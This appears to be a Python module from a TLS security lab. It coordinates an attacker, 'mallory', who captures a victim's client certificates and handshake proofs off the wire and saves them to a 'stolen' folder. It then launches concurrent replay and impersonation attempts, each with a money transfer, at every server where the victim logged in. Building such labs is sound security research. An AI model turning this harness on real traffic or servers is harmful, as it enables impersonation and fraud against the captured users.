"""The raid: from what was captured to attempts at every gateway where a victim was seen to log in."""

import asyncio
import re
from collections.abc import Callable, Coroutine, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from attacker.handshake import Capture, Contact
from attacker.moves import MOVES, Move
from attacker.plays import Loot, NotApplicable
from attacker.replay import Attempt, Transfer, attempt, not_tried
from lab.events import CertificateCaptured, HandshakeSeen, Reporter, Trouble
from lab.tls.bundle import Bundle
from lab.tls.errors import Abort
from lab.tls.messages import ClientHello, ServerHello, parse, serialize
from lab.tls.records import ContentType
from lab.tls.sessions import Session
from lab.tls.versions import TLS12, version_name

TRANSFER = Transfer("mallory", 100)
STOLEN_FOLDER = "stolen"
MAX_SEEN = 10_000
CONCURRENCY = 8

_BEYOND_PLAINTEXT = (ContentType.CHANGE_CIPHER_SPEC, ContentType.APPLICATION_DATA)
"""Records that show that a client got as far as to answer its server."""

Way = Callable[[str], tuple[str, int]]
"""From a server's address as it was seen on the wire, `host:port`, to where the attacker reaches that server."""


@dataclass(frozen=True)
class Plan:
    """What the attacker sets out to do at each server: which moves, in which versions, how many rounds.

    `own` are mallory's own bundles, where she is a customer too.
    """

    moves: tuple[Move, ...] = MOVES
    versions: tuple[int, ...] = (TLS12,)
    rounds: int = 1
    own: tuple[Bundle, ...] = ()
    transfer: Transfer | None = TRANSFER


@dataclass
class Server:
    """What was seen of one server: how it was asked for, alice's certificate there, her connections by version."""

    name: str
    capture: Capture | None = None
    recorded: dict[int, bytes] = field(default_factory=dict)
    tried: set[int] = field(default_factory=set)


class Raid:
    """Takes what is seen on the wire as it comes, and once a certificate came with its proof, tries it at every server.

    At each server it uses what was seen there, or else the first certificate of all: some ask for one only under the
    protection of TLS 1.3, or not in TLS at all. `way` leads to the servers, `source` says how the attacker came to see
    the wire. What happens is reported, and the certificates are kept in `folder`/stolen.
    """

    def __init__(self, reporter: Reporter, folder: Path, source: str, way: Way, plan: Plan | None = None) -> None:
        self._reporter = reporter
        self._folder = folder / STOLEN_FOLDER
        self._source = source
        self._way = way
        self._plan = plan or Plan()
        self._first: Capture | None = None
        self._servers: dict[str, Server] = {}
        self._reported: set[tuple[str, ...]] = set()
        self._tasks: set[asyncio.Task[None]] = set()
        self._turns = asyncio.Semaphore(CONCURRENCY)

    def take(self, capture: Capture) -> None:
        """Works on one capture; the attempts run in the background of the running loop."""
        if not capture.chain or len(self._servers) > MAX_SEEN:
            return
        try:
            certificate = x509.load_der_x509_certificate(capture.chain[0])
        except ValueError as error:
            self._reporter.report(Trouble(f"{capture.client} presented no readable certificate: {error}"))
            return
        self._report(capture, certificate)
        server = self._server(capture.server, capture.server_name)
        if capture.certificate_verify is not None and server.capture is None:
            server.capture = capture
            server.recorded[TLS12] = capture.client_bytes
            self._first = self._first or capture
            self._keep(certificate)
        self._go_on()

    def meet(self, contact: Contact) -> None:
        """Works on a handshake in which no client certificate can be read."""
        if contact.version is None or contact.resumed or len(self._servers) > MAX_SEEN:
            return
        self._report_contact(contact, version_name(contact.version))
        if any(kind in _BEYOND_PLAINTEXT for kind, _ in contact.client_records):
            self._server(contact.server, contact.server_name).recorded.setdefault(contact.version, contact.client_bytes)
            self._go_on()

    async def close(self) -> None:
        """Breaks off what is still going on."""
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    def _server(self, address: str, name: str | None) -> Server:
        return self._servers.setdefault(address, Server(name or address.rpartition(":")[0]))

    def _go_on(self) -> None:
        """Starts on every server and version that has been seen and not been tried.

        A server counts as seen when its TLS 1.2 was, which alone can show the certificate that is wanted there.
        """
        if self._first is None:
            return
        for address, server in self._servers.items():
            for version in self._plan.versions:
                if TLS12 in server.recorded and version in server.recorded and version not in server.tried:
                    server.tried.add(version)
                    self._start(self._try_moves(address, server, version))

    async def _try_moves(self, address: str, server: Server, version: int) -> None:
        """All moves at one server in one version, several at once; each is reported when its outcome is in."""
        assert self._first
        capture = server.capture or self._first
        loot = loot_from(capture, server.recorded, self._plan.own)
        target, victim = self._way(address), common_name(capture.chain[0])

        async def try_one(move: Move, round_: int) -> None:
            it = Attempt(
                move=move.id,
                version=version,
                target=target,
                server_name=server.name,
                victim=victim,
                transfer=self._plan.transfer,
                seen_at=capture.server,
                round=round_,
                detailed=round_ == 1,
            )
            if version_name(version) not in move.fails:
                return
            try:
                play = move.make(loot, version)
            except NotApplicable as reason:
                self._reporter.report(not_tried(it, str(reason)))
                return
            async with self._turns:
                self._reporter.report(await attempt(it, play))

        for round_ in range(1, self._plan.rounds + 1):
            await asyncio.gather(*(try_one(move, round_) for move in self._plan.moves))

    def _start(self, work: Coroutine[Any, Any, None]) -> None:
        task = asyncio.create_task(work)
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    def _report(self, capture: Capture, certificate: x509.Certificate) -> None:
        """The first sight of a certificate at a server."""
        sha256 = certificate.fingerprint(hashes.SHA256()).hex()
        if not self._is_new(sha256, capture.server, version_name(capture.version)):
            return
        proof = capture.certificate_verify
        self._reporter.report(
            CertificateCaptured(
                client=capture.client,
                server=capture.server,
                tls=version_name(capture.version),
                subject=certificate.subject.rfc4514_string(),
                issuer=certificate.issuer.rfc4514_string(),
                sha256=sha256,
                record=capture.record_header.hex(),
                message=capture.certificate_message.hex(),
                proof=serialize(proof).hex() if proof else None,
                transcript=tuple(entry.raw.hex() for entry in capture.transcript),
                client_random=(capture.client_random or b"").hex(),
                server_random=(capture.server_random or b"").hex(),
                source=self._source,
                note=capture.note,
            )
        )

    def _report_contact(self, contact: Contact, tls: str) -> None:
        """The first sight of such a handshake at a server."""
        if not self._is_new("", contact.server, tls):
            return
        self._reporter.report(
            HandshakeSeen(
                client=contact.client,
                server=contact.server,
                tls=tls,
                server_name=contact.server_name or "",
                client_random=(contact.client_random or b"").hex(),
                server_random=(contact.server_random or b"").hex(),
                client_records=tuple(_described(contact.client_records)),
                server_records=tuple(_described(contact.server_records)),
                asked=contact.asked,
            )
        )

    def _is_new(self, *sight: str) -> bool:
        """Whether it has not been reported yet."""
        known = len(self._reported)
        if known < MAX_SEEN:
            self._reported.add(sight)
        return len(self._reported) > known

    def _keep(self, certificate: x509.Certificate) -> None:
        """In a file named after its subject, each further certificate with a number."""
        name = re.sub(r"[^A-Za-z0-9._-]", "_", _common_name(certificate)) or "certificate"
        pem = certificate.public_bytes(Encoding.PEM)
        self._folder.mkdir(parents=True, exist_ok=True)
        for path in _names(self._folder, name):
            if not path.exists():
                path.write_bytes(pem)
            if path.read_bytes() == pem:
                return


def loot_from(capture: Capture, recorded: dict[int, bytes], own: tuple[Bundle, ...]) -> Loot:
    """What there is to make moves with; of mallory's own bundles the one of the same sort, self-signed or not."""
    messages = [_parsed(entry.raw) for entry in capture.messages]
    hello = next((message for message in messages if isinstance(message, ClientHello)), None)
    answer = next((message for message in messages if isinstance(message, ServerHello)), None)
    session = None
    if answer and (capture.session_id or capture.ticket):
        session = Session(capture.session_id, capture.ticket, None, answer.cipher_suite, True)
    self_signed = _is_self_signed(capture.chain[0])
    return Loot(
        chain=capture.chain,
        proof=capture.certificate_verify,
        hello=hello,
        session=session,
        recorded=recorded,
        own=next((bundle for bundle in own if _is_self_signed(bundle.chain[0]) == self_signed), None),
    )


def common_name(certificate: bytes) -> str:
    """The common name of a certificate in DER; empty where it has none."""
    return _common_name(x509.load_der_x509_certificate(certificate))


def _common_name(certificate: x509.Certificate) -> str:
    names = certificate.subject.get_attributes_for_oid(NameOID.COMMON_NAME)
    return str(names[0].value) if names else ""


def _is_self_signed(der: bytes) -> bool:
    certificate = x509.load_der_x509_certificate(der)
    return certificate.issuer == certificate.subject


def _parsed(raw: bytes) -> object:
    try:
        return parse(raw)
    except Abort:
        return None


def _described(records: tuple[tuple[int, int], ...]) -> Iterator[str]:
    names = {int(kind): kind.name.lower() for kind in ContentType}
    return (f"{names.get(kind, kind)} {length}" for kind, length in records)


def _names(folder: Path, name: str) -> Iterator[Path]:
    yield folder / f"{name}.pem"
    for number in range(2, 100):
        yield folder / f"{name}-{number}.pem"
